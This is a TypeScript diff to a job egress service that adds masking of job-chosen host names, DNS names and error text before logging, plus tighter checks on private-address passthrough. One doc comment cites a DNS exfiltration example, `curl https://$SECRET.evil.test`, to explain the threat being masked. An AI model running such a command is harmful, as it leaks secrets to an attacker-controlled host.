@@ -10,6 +10,7 @@ import { createJobNetwork, type JobNetwork } from "./job-network.js";
 import type { TableNames } from "./nft.js";
 import {
   type AddressGuard,
+  addressRule,
   compilePolicy,
   createAddressGuard,
   createFlowMetrics,
@@ -27,6 +28,7 @@ import {
   systemResolver,
   teeSinks,
 } from "./proxy/index.js";
+import type { IpAddress } from "./proxy/ip.js";
 import { reapNetworks } from "./reaper.js";
 
 export interface EgressPorts {
@@ -50,6 +52,8 @@ export interface EgressServiceOptions {
   airlockPorts?: number[];
   /** Names Airlock resolves itself (internal services), before the host resolver. */
   hosts?: Record<string, string[]>;
+  /** Where names outside `hosts` are resolved: the host's resolver unless a test brings its own. */
+  resolver?: Resolver;
   /** Destinations no job reaches whatever its allowlist (the host's LAN, say). */
   denyCidrs?: string[];
   registry?: Registry;
@@ -61,6 +65,13 @@ export interface EgressRequest {
   runnerId: string;
   mode: EgressMode;
   allow: readonly string[];
+  /**
+   * The job's masker, for what the network records about it. A job chooses the names it looks
+   * up and connects to (`curl https://$SECRET.evil.test`), so every host name, DNS name and error
+   * text of its flows, denials and log lines passes through this before it is stored or logged.
+   * It must accept lower-cased text: the proxy and the resolver fold names to lower case.
+   */
+  mask?: (text: string) => string;
 }
 
 /** What a sandbox needs to join the job's network, and how to give it back. */
@@ -81,6 +92,8 @@ interface LiveJob {
 }
 
 const maxDnsAuditsPerJob = 50;
+/** How long a released job's masker is kept for flows its closing connections still report. */
+const maskGraceMs = 60_000;
 
 /**
  * The network side of a job, end to end: a namespace with its rules, a resolver that answers only
@@ -90,6 +103,8 @@ const maxDnsAuditsPerJob = 50;
 export class EgressService {
   private readonly live = new Map<string, LiveJob>();
   private readonly byAddress = new Map<string, JobEgress>();
+  /** jobId → its masker; outlives the job briefly (maskGraceMs), as flows are recorded on close. */
+  private readonly masks = new Map<string, (text: string) => string>();
 
   private constructor(
     private readonly opts: EgressServiceOptions,
@@ -105,19 +120,26 @@ export class EgressService {
     await reapNetworks(opts.names);
     const pool = new AddressPool(opts.pool);
     const hosts = new Map(Object.entries(opts.hosts ?? {}).map(([k, v]) => [k.toLowerCase(), v]));
-    const resolver: Resolver = async (name) => hosts.get(name.toLowerCase()) ?? systemResolver(name);
+    const fallback = opts.resolver ?? systemResolver;
+    const resolver: Resolver = async (name) => hosts.get(name.toLowerCase()) ?? fallback(name);
     const sink = new StoreFlowSink(opts.db, {
       onError: (err: unknown) => opts.logger.error({ err }, "could not store egress flows"),
     });
-    const flows = opts.registry ? teeSinks(sink, createFlowMetrics(opts.registry)) : sink;
+    const recorded = opts.registry ? teeSinks(sink, createFlowMetrics(opts.registry)) : sink;
+    // Every flow, proxied or direct, passes its job's masker before it is stored or audited.
+    const flows: FlowSink = { record: (f) => recorded.record(service.current?.maskFlow(f) ?? f) };
     const base = createAddressGuard({ jobPool: [opts.pool], extraDeny: opts.denyCidrs ?? [] });
     // Addresses the operator pinned in `network.hosts` (an internal registry on a private range)
-    // may be reached through those names; private ranges otherwise stay closed to names, so a
-    // public name that rebinds to an internal address still fails. Hard rules always apply.
-    const pinned = new Set([...hosts.values()].flat());
+    // may be reached through those names, and only those: private ranges otherwise stay closed to
+    // names, so a public name that resolves (or rebinds) to the pinned internal address still
+    // fails. Hard rules always apply.
     const guard: AddressGuard = {
-      check: (address, explicit) =>
-        base.check(address, (ip) => pinned.has(address) || (explicit?.(ip) ?? false)),
+      check: (address, explicit, name) =>
+        base.check(
+          address,
+          (ip) => (name !== undefined && hosts.get(name)?.includes(address)) || (explicit?.(ip) ?? false),
+          name,
+        ),
     };
     const service: { current?: EgressService } = {};
     const proxy = new EgressProxy({
@@ -125,7 +147,8 @@ export class EgressService {
       sink: flows,
       resolver,
       guard,
-      onError: (err, ctx) => opts.logger.warn({ err, ...ctx }, "egress proxy"),
+      onError: (err, ctx) =>
+        opts.logger.warn({ ...ctx, err: service.current?.maskError(ctx.jobId, err) ?? err }, "egress proxy"),
     });
     const dns = new DnsServer({
       port: opts.ports.dns,
@@ -136,11 +159,21 @@ export class EgressService {
         const access = nameAccess(job.egress.policy, name);
         return { allowed: access.allowed, passthrough: access.ports.map((port) => ({ port })) };
       },
+      // Direct passthrough to an address goes by the proxy's rules: a name whose DNS points into a
+      // private range opens nothing there unless the allowlist names that range (or the operator
+      // pinned the name), exactly as the proxy would refuse a CONNECT to it.
+      admitPassthrough: (jobId, name, address, p) => {
+        const job = service.current?.live.get(jobId);
+        if (!job) return false;
+        const listed = (ip: IpAddress) => addressRule(job.egress.policy, ip, p.port) !== undefined;
+        return guard.check(address, listed, name).ok;
+      },
       resolve: async (name): Promise<ResolvedAddress[]> =>
         (await resolver(name)).filter((a) => !a.includes(":")).map((address) => ({ address, ttl: 30 })),
       onQuery: (q) => {
         if (q.answered) return;
-        opts.logger.info({ jobId: q.jobId, name: q.name, reason: q.reason }, "dns refused");
+        const name = service.current?.maskFor(q.jobId)(q.name) ?? q.name;
+        opts.logger.info({ jobId: q.jobId, name, reason: q.reason }, "dns refused");
         service.current?.auditDnsRefusal(q.jobId, q.name, q.reason ?? "refused", q.withheld ?? []);
       },
       ...(opts.denyCidrs ? { extraDenied: opts.denyCidrs } : {}),
@@ -175,6 +208,7 @@ export class EgressService {
     });
     const egress: JobEgress = { jobId: req.jobId, runId: req.runId, runnerId: req.runnerId, policy };
     const job: LiveJob = { net, egress, listeners: [] };
+    if (req.mask) this.masks.set(req.jobId, req.mask);
     this.live.set(req.jobId, job);
     this.byAddress.set(net.jobAddr, egress);
     try {
@@ -202,7 +236,7 @@ export class EgressService {
     return {
       enterArgv: netnsEnterArgv(net.nsPath),
       resolvConf: resolvConf(net.hostAddr),
-      env: req.mode === "block" ? {} : proxyEnv(proxyUrl),
+      env: req.mode === "block" ? {} : proxyEnv(proxyUrl, [net.hostAddr]),
       hostAddr: net.hostAddr,
       jobAddr: net.jobAddr,
       release: () => this.release(req.jobId),
@@ -219,6 +253,7 @@ export class EgressService {
     job.dnsRefusals = (job.dnsRefusals ?? 0) + 1;
     if (job.dnsRefusals > maxDnsAuditsPerJob) return;
     const { runId, runnerId } = job.egress;
+    const mask = this.maskFor(jobId);
     void recordAudit(this.opts.db, {
       type: "egress.dns_refused",
       actor: runnerId,
@@ -226,7 +261,7 @@ export class EgressService {
       jobId,
       runnerId,
       data: {
-        name,
+        name: mask(name),
         reason,
         withheld,
         ...(job.dnsRefusals === maxDnsAuditsPerJob
@@ -236,10 +271,42 @@ export class EgressService {
     }).catch((err: unknown) => this.opts.logger.error({ err, jobId }, "could not audit a dns refusal"));
   }
 
+  /** The job's masker; identity for a job that gave none (or was released long ago). */
+  maskFor(jobId: string): (text: string) => string {
+    return this.masks.get(jobId) ?? ((text) => text);
+  }
+
+  /** A flow as it may be stored: the job-chosen parts (host name, error text) masked. */
+  maskFlow(flow: Flow): Flow {
+    const mask = this.masks.get(flow.jobId);
+    if (!mask) return flow;
+    const masked = { ...flow, host: mask(flow.host) };
+    if (flow.error !== undefined) masked.error = mask(flow.error);
+    return masked;
+  }
+
+  /** An error the proxy reports for a job, for the log: its message (it may name a host) masked. */
+  maskError(jobId: string | undefined, err: Error): Error | { type: string; message: string; code?: string } {
+    const mask = jobId ? this.masks.get(jobId) : undefined;
+    if (!mask) return err;
+    const message = mask(err.message);
+    if (message === err.message) return err;
+    // The stack repeats the message, so the masked error is logged without it.
+    const code = (err as NodeJS.ErrnoException).code;
+    return { type: err.name, message, ...(code ? { code } : {}) };
+  }
+
   /** Teardown: stop serving the job, record its non-proxied flows, remove its network. */
   private async release(jobId: string): Promise<void> {
     const job = this.live.get(jobId);
     if (!job) return;
+    const mask = this.masks.get(jobId);
+    if (mask) {
+      // Connections closed below still report their flows; the masker must outlive them.
+      setTimeout(() => {
+        if (this.masks.get(jobId) === mask) this.masks.delete(jobId);
+      }, maskGraceMs).unref();
+    }
     this.byAddress.delete(job.net.jobAddr);
     await Promise.all(job.listeners.map((l) => l.close()));
     this.proxy.closeJob(jobId);
